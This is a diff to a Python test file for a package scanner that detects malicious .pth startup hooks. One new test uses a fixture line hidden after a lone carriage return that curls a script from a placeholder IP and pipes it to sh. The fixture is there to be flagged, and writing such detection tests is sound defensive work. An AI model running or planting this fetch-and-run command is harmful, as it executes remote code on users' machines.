@@ -4,13 +4,15 @@ from __future__ import annotations
 
 from pathlib import Path
 
+from douane.analysis.context import pth_executed
 from douane.analysis.engine import analyse
 from douane.archive import Opened
 from douane.domain import Artifact, ArtifactKind, Member, Severity, Where
 
 
-def scan(files: dict[str, str], kind: ArtifactKind = ArtifactKind.SDIST):
-    members = tuple(Member(p, t.encode(), len(t.encode())) for p, t in files.items())
+def scan(files: dict[str, str | bytes], kind: ArtifactKind = ArtifactKind.SDIST):
+    raw = {p: t if isinstance(t, bytes) else t.encode() for p, t in files.items()}
+    members = tuple(Member(p, b, len(b)) for p, b in raw.items())
     opened = Opened(kind=kind, format="folder", members=members, issues=(), root="")
     return analyse(Artifact(path=Path("."), filename="t"), opened).findings
 
@@ -80,3 +82,27 @@ def test_namespace_package_pth_is_not_a_hook():
         "ie = os.path.exists(os.path.join(p,'__init__.py'))\n"
     )
     assert not hits(scan({"ns-nspkg.pth": line}), "DOU106")
+
+
+def test_pth_executed_keeps_only_import_lines_on_their_line_numbers():
+    data = b"\xef\xbb\xbfimport a\n/some/dir\n# note\nimport\tb\r/x\rimport c\nimportlib\n"
+    assert pth_executed(data) == b"import a\n\n\nimport\tb; import c"
+    assert pth_executed(b"/only/paths\n/more\n") == b""
+
+
+def test_a_binary_pth_checkpoint_is_not_read_as_code():
+    """PyTorch saves checkpoints as `.pth`: a zip of pickles and high-entropy tensors that
+    obfuscation rules would otherwise read as one huge line of code."""
+    soup = Path(__file__).parents[1] / "rules/fixtures/DOU704/flag/soup.py"
+    code = b"".join(x for x in soup.read_bytes().splitlines(True) if not x.startswith(b"import"))
+    assert {f.rule for f in scan({"soup.py": code})} >= {"DOU704"}
+    checkpoint = b"PK\x03\x04" + bytes(range(256)) * 64 + b"\n" + code
+    findings = scan({"pkg/weights/model.pth": checkpoint}, kind=ArtifactKind.WHEEL)
+    assert findings == []
+
+
+def test_an_import_line_hidden_after_a_lone_cr_is_still_read():
+    pth = b"/site/extra\rimport os; os.system('curl -s http://203.0.113.9/x | sh')\n"
+    assert [(line, sev) for line, sev, _ in hits(scan({"evil.pth": pth}), "DOU107")] == [
+        (1, Severity.CRITICAL)
+    ]
